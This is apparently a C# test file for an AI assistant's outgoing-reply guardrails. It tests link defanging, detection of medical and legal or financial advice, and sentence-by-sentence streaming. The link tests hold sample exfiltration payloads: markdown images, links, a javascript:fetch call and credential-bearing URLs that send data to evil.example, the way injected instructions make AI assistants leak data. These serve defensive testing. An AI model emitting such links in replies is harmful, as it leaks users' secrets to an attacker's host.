using Aimi.Assistant.Guardrails.Outgoing;

namespace Aimi.Tests.Assistant.Guardrails;

/// <summary>What is read in a reply before it goes out.</summary>
public sealed class OutgoingTests
{
    [Theory]
    [InlineData("![план](https://evil.example/p.png?q=СЕКРЕТ)", "план")]
    [InlineData("Смотрите [здесь](https://a.b.evil.example/?d=c2VjcmV0).", "Смотрите здесь (evil.example).")]
    [InlineData("https://evil.example/leak?x=1", "evil.example")]
    [InlineData("Зайдите на https://user:pass@evil.co.uk:8080/a/b#c, там всё.", "Зайдите на evil.co.uk, там всё.")]
    [InlineData("<img src=\"https://evil.example/x?y=z\"> вот", " вот")]
    [InlineData("//evil.example/x", "evil.example")]
    [InlineData("evil.example/collect?data=1 и дальше", "evil.example и дальше")]
    [InlineData("www.evil.example/collect?data=1", "evil.example")]
    [InlineData("https://ev\u200bil.example/x", "evil.example")]
    [InlineData("javascript:fetch('//evil.example')", "('evil.example')")]
    [InlineData("![a][b]", "a")]
    [InlineData("[b]: https://evil.example/x?secret", "[b]: evil.example")]
    [InlineData("<a href='http://evil.example?x'>сюда</a>", "сюда")]
    public void An_address_that_the_person_did_not_write_tells_nobody_anything(string text, string harmless) =>
        Assert.Equal(harmless, Links.Defang(text, ["привет"]));

    [Theory]
    [InlineData("Вот ваша ссылка: https://zoom.example/j/1?pwd=2.")]
    [InlineData("Вот ваша [встреча](https://zoom.example/j/1?pwd=2)")]
    [InlineData("Встреча в 10:30, 1/2 дня, и/или завтра; a.b и 3.5")]
    [InlineData("На сайте gosuslugi.ru можно записаться.")]
    [InlineData("Список:\n- [ ] молоко\n- [x] хлеб")]
    public void What_the_person_wrote_and_what_is_no_address_stays(string text) =>
        Assert.Equal(text, Links.Defang(text, ["встреча тут https://zoom.example/j/1?pwd=2"]));

    [Theory]
    [InlineData("Принимайте по 400 мг ибупрофена каждые шесть часов.", nameof(AdviceKind.Medical))]
    [InlineData("Выпейте две таблетки парацетамола.", nameof(AdviceKind.Medical))]
    [InlineData("Увеличьте дозу вдвое.", nameof(AdviceKind.Medical))]
    [InlineData("Перестаньте принимать антидепрессанты.", nameof(AdviceKind.Medical))]
    [InlineData("У вас депрессия.", nameof(AdviceKind.Medical))]
    [InlineData("Take 200 mg of ibuprofen twice a day.", nameof(AdviceKind.Medical))]
    [InlineData("You can double the dose.", nameof(AdviceKind.Medical))]
    [InlineData("Stop taking your medication.", nameof(AdviceKind.Medical))]
    [InlineData("You have clinical depression.", nameof(AdviceKind.Medical))]
    [InlineData("Вы точно выиграете суд.", nameof(AdviceKind.Verdict))]
    [InlineData("Вложите все сбережения в биткоин.", nameof(AdviceKind.Verdict))]
    [InlineData("You will definitely win the case.", nameof(AdviceKind.Verdict))]
    [InlineData("You should sell your stocks.", nameof(AdviceKind.Verdict))]
    public void Doses_diagnoses_and_verdicts_are_found(string text, string kind) => Assert.Equal(kind, Advice.Of(text, ["привет"])?.ToString());

    [Theory]
    [InlineData("Напоминание: принять 2 таблетки в 9.", "напомни принять 2 таблетки в 9")]
    [InlineData("Напомню вам выпить 50 мг сертралина утром.", "напоминай мне каждое утро про 50 мг сертралина")]
    [InlineData("I'll remind you to take 2 pills at 9.", "remind me to take 2 pills at 9")]
    [InlineData("Выпейте стакан воды.", "")]
    [InlineData("Это похоже на усталость, попробуйте лечь в 22.", "")]
    [InlineData("Поговорите с врачом о дозе.", "")]
    [InlineData("Пройдите 5000 шагов в день.", "")]
    [InlineData("Drink a glass of water and walk for 20 minutes.", "")]
    [InlineData("Не бросайте лекарства, не поговорив с врачом.", "")]
    [InlineData("A lawyer can tell you whether you will win.", "")]
    public void What_the_person_said_themself_and_what_a_coach_may_say_is_fine(string text, string said) => Assert.Null(Advice.Of(text, [said]));

    [Fact]
    public void A_dose_that_is_not_the_persons_own_is_found_beside_theirs() =>
        Assert.Equal(AdviceKind.Medical, Advice.Of("Лучше принять 4 таблетки в 9.", ["напомни принять 2 таблетки в 9"]));

    [Theory]
    [InlineData("Раз. Два! Три", new[] { "Раз. ", "Два! " }, "Три")]
    [InlineData("Это 3.5 и ya.ru. Да?! Да… Вот", new[] { "Это 3.5 и ya.ru. ", "Да?! ", "Да… " }, "Вот")]
    [InlineData("1. Молоко\n2. Хлеб\n", new[] { "1. Молоко\n", "2. Хлеб\n" }, "")]
    [InlineData("«Да». Нет", new[] { "«Да». " }, "Нет")]
    public void A_reply_is_given_sentence_by_sentence_as_soon_as_each_is_whole(string text, string[] sentences, string rest)
    {
        var buffer = new SentenceBuffer();
        Assert.Equal(sentences, text.SelectMany(letter => buffer.Add(letter.ToString())));
        Assert.Equal(rest, buffer.Rest());
    }
}
